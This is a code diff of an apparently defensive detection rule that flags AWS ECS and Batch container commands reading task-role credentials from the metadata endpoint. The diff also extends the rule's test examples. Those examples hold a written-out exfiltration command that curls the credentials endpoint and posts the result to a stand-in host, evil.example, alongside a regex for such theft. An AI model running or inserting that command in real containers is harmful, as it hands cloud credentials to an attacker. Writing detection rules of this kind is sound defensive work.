@@ -1,46 +1,56 @@
-"""Container's command asks for the credentials of its task's role.
+"""Container's command reads the credentials of its task's role.
 
-Programs get the role's credentials from their SDK. A command line that asks for them by address
-takes them out of the container, and whoever has them is the role, from anywhere.
+Programs get the role's credentials from their SDK. A command line that reads them from their
+address takes them out of the container. With them, an attacker is the role, from anywhere.
 """
 
 import re
 from collections.abc import Iterator
+from typing import Any
 
-from trailwarden import Event, Example, Match, Rule, Severity, Tactic, alerts, silent
-from trailwarden.cloudtrail.samples import Fields, iam_user, record
-from trailwarden.cloudtrail.values import dig, listed
+from trailwarden import (
+    ATTEMPTED,
+    NOBODY,
+    Event,
+    Example,
+    Match,
+    Outcome,
+    Rule,
+    Severity,
+    Tactic,
+    alerts,
+    silent,
+)
+from trailwarden.cloudtrail.samples import Fields, request
+from trailwarden.cloudtrail.values import Record, dig, listed, text_of
 
 ENDPOINT = re.compile(
     r"169\.254\.170\.2(?!\d)(?!/v\d/(?:metadata|stats|task))"
     r"|AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI"
     r"|169\.254\.169\.254/latest/meta-data/iam|169\.254\.170\.23"
 )
+CONTAINERS = (
+    "containerDefinitions",
+    "containerOverrides",
+    "containerProperties",
+    "overrides.containerOverrides",
+)
+COMMANDS = ("command", "entryPoint", "healthCheck.command")
+NAMES = ("family", "taskDefinition", "jobDefinitionName", "jobName")
 
 
 def detect(event: Event) -> Match | None:
-    told = " ".join(words_of(event))
-    if not ENDPOINT.search(told):
+    if not ENDPOINT.search(" ".join(words_of(event))):
         return None
-    family = event.text("requestParameters.family") or event.text(
-        "requestParameters.taskDefinition"
-    )
-    severity = None if event.succeeded else Severity.MEDIUM
-    return Match(f"{event.name} {family[-60:]}", severity=severity, subject=family)
+    thing = next(filter(None, map(event.request, NAMES)), "")
+    severity = None if event.outcome is Outcome.SUCCEEDED else Severity.MEDIUM
+    return Match(f"{event.name} {thing}", severity, thing)
 
 
 def words_of(event: Event) -> Iterator[str]:
     """Yield the words of every command in the request, of definitions and of overrides."""
-    told = "requestParameters"
-    containers = [
-        *event.listed(f"{told}.containerDefinitions"),
-        *event.listed(f"{told}.overrides.containerOverrides"),
-        *event.listed(f"{told}.containerProperties"),
-        *event.listed(f"{told}.containerOverrides"),
-    ]
-    places = ("command", "entryPoint", "healthCheck.command")
-    words = (w for c in containers for p in places for w in listed(dig(c, p)))
-    return (word for word in words if isinstance(word, str))
+    for container in (c for path in CONTAINERS for c in event.listed(f"requestParameters.{path}")):
+        yield from (text_of(w) for path in COMMANDS for w in listed(dig(container, path)))
 
 
 RULE = Rule(
@@ -54,6 +64,8 @@ RULE = Rule(
         "ecs:RunTask",
         "ecs:StartTask",
     ],
+    exempt=NOBODY,
+    outcome=ATTEMPTED,
     severity=Severity.HIGH,
     attack={Tactic.CREDENTIAL_ACCESS: ["T1552.005"], Tactic.PERSISTENCE: ["T1525"]},
     response="Stop the tasks of this definition and revoke the sessions of its task role. Disable "
@@ -61,24 +73,32 @@ RULE = Rule(
     false_positives="Start scripts that fetch credentials by themselves for an old program.",
 )
 
+STEAL = "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- evil.example"
+
 
 def examples() -> Iterator[Example]:
-    steal = "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- evil.example"
-    action = "ecs:RegisterTaskDefinition"
-    mallory = iam_user("mallory")
-    yield alerts("in a definition", record(action, mallory, requestParameters=definition(steal)))
-    overrides = {"containerOverrides": [{"name": "app", "command": ["sh", "-c", steal]}]}
-    told = {"taskDefinition": "app:1", "overrides": overrides}
-    yield alerts("at the start", record("ecs:RunTask", mallory, requestParameters=told))
-    harmless = definition("curl 169.254.170.2/v2/metadata; exec app")
-    yield silent("only metadata", record(action, mallory, requestParameters=harmless))
-    proxy = definition("exec app")
-    proxy["containerDefinitions"][0]["environment"] = [
-        {"name": "NO_PROXY", "value": "169.254.170.2"}
-    ]
-    yield silent("a proxy exception", record(action, mallory, requestParameters=proxy))
+    theft = defined(STEAL)
+    yield alerts("in a definition", theft, severity=Severity.HIGH, subject="app")
+    failed = defined(STEAL, fields={"errorCode": "ClientException"})
+    yield alerts("an attempt that fails", failed, severity=Severity.MEDIUM)
+    overrides: Fields = {"containerOverrides": [{"name": "app", "command": ["sh", "-c", STEAL]}]}
+    start: Fields = {"taskDefinition": "app:1", "overrides": overrides}
+    yield alerts("at the start", request("ecs:RunTask", **start), subject="app:1")
+    placed = request("ecs:StartTask", containerInstances=["c"], **start)
+    yield alerts("at the start on an instance", placed)
+    command = {"command": ["sh", "-c", STEAL]}
+    job: Fields = {"jobDefinitionName": "j", "type": "container", "containerProperties": command}
+    yield alerts("in a job", request("batch:RegisterJobDefinition", **job), subject="j")
+    submitted: Fields = {"jobName": "n", "jobQueue": "q", "jobDefinition": "j"}
+    batch = request("batch:SubmitJob", **submitted, containerOverrides=command)
+    yield alerts("at the start of a job", batch, subject="n")
+    yield silent("only metadata", defined("curl 169.254.170.2/v2/metadata; exec app"))
+    proxy = [{"name": "NO_PROXY", "value": "169.254.170.2"}]
+    yield silent("a proxy exception", defined("exec app", environment=proxy))
 
 
-def definition(script: str) -> Fields:
+def defined(script: str, *, fields: Fields | None = None, **settings: Any) -> Record:
     container: Fields = {"name": "app", "image": "app", "entryPoint": ["sh", "-c"]}
-    return {"family": "app", "containerDefinitions": [container | {"command": [script]}]}
+    containers = [container | {"command": [script]} | settings]
+    task: Fields = {"family": "app", "containerDefinitions": containers}
+    return request("ecs:RegisterTaskDefinition", fields=fields, **task)
